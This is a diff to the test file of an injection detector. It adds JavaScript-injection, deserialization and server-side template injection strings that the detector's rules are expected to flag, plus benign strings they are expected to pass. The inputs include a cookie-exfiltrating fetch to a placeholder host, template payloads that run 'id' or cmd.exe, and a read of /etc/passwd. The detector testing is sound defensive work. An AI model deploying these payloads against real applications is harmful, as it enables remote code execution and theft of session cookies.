@@ -78,7 +78,7 @@ describe('js_injection', () => {
     assertRule('js-004', [
       "eval('process.exit()')", 'eval(String.fromCharCode(112,114,111))', "eval(atob('cHJvY2Vzcy5leGl0KCk='))",
       "eval(Buffer.from('cHJvY2Vzcy5leGl0KCk=', 'base64').toString())", 'setTimeout("while(1){}", 10)',
-      "setInterval('fetch(`//x.example/`+document.cookie)')", "vm.runInNewContext('1+1', {})", '1;vm.runInThisContext(code)',
+      "setInterval('fetch(`//x.example/`+document.cookie)')", 'setTimeout(String.fromCharCode(97,108,101))', "vm.runInNewContext('1+1', {})", '1;vm.runInThisContext(code)',
     ]);
   });
 
@@ -86,7 +86,7 @@ describe('js_injection', () => {
     assertRule('js-005', [
       '{"rce":"_$$ND_FUNC$$_function(){return 1}()"}',
       '{"then":"$1:__proto__:then","status":"resolved_model"}', '{"get":"$4:constructor:constructor"}',
-      '["$3:Module:prototype:_compile"]',
+      '["$3:Module:prototype:_compile"]', '{"__js_function":"function(){return process.pid}"}',
     ]);
   });
 
@@ -143,7 +143,7 @@ describe('ssti', () => {
   it('finds arithmetic probes in every template syntax', () => {
     assertRule('ssti-001', [
       '{{7*7}}', '{{ 7 * 7 }}', "{{7*'7'}}", '${7*7}', '${{7*7}}', '#{7*7}', '*{7*7}', '@(7*7)', '[[${7*7}]]',
-      '<%= 7*7 %>', '<%=7*7%>', '{{= 1337*1337 }}', '${1000+337}', '#{3-1}', 'name={{191*7}}&x=1',
+      '<%= 7*7 %>', '<%=7*7%>', '{{= 1337*1337 }}', '${1000+337}', '#{3-1}', 'name={{191*7}}&x=1', '[[5*5]]',
     ]);
   });
 
@@ -155,7 +155,9 @@ describe('ssti', () => {
       "<%= global.process.mainModule.require('child_process').execSync('id') %>", '#{`id`}', "#{runtime.exec('id')}",
       "${T(java.lang.Runtime).getRuntime().exec('id')}", "*{T(java.lang.System).getenv()}",
       "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{{['id']|filter('system')}}",
-      '@{System.Diagnostics.Process.Start("cmd.exe")}', "{{request|attr('application')}}",
+      '@{System.Diagnostics.Process.Start("cmd.exe")}', "{{request|attr('application')}}", '<%= `ls /` %>',
+      "<%= File.open('/etc/passwd').read %>", '{{dump(app)}}', '@System.Diagnostics.Process.Start("cmd.exe")',
+      '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")', "${self.module.cache.util.os.system('id')}",
     ]);
   });
 
@@ -164,6 +166,7 @@ describe('ssti', () => {
       "{% import os %}{{ os.popen('id').read() }}", '{% from subprocess import check_output %}', '{% if True %}49{% endif %}',
       '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '#set($rt = $x.class.forName("java.lang.Runtime"))',
       '{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}', '{php}echo `id`;{/php}', '{% debug %}',
+      "{system('id')}", '{$smarty.version}',
     ]);
   });
 
@@ -187,6 +190,7 @@ describe('ssti', () => {
       'Hi {{ customer.first_name | capitalize }}', '<#if user??>Welcome ${user}</#if>', '${spring.datasource.url}',
       '${var.region}-${path.module}', '<%= link_to "Home", root_path %>', '@(Model.Title)', 'I scored {7*7} points',
       'Dear {{name}}, your order {{order_id}} ships {{date}}', '{"a":{"b":[1,2,{"c":3}]}}', '<%# comment %>',
+      '[[Main Page]]', '[[File:x.png|thumb]]', 'Price: $5 (incl. tax)', 'a [b] * c', 'Contact @support.team', '$(".btn").click()',
     ]);
   });
 });
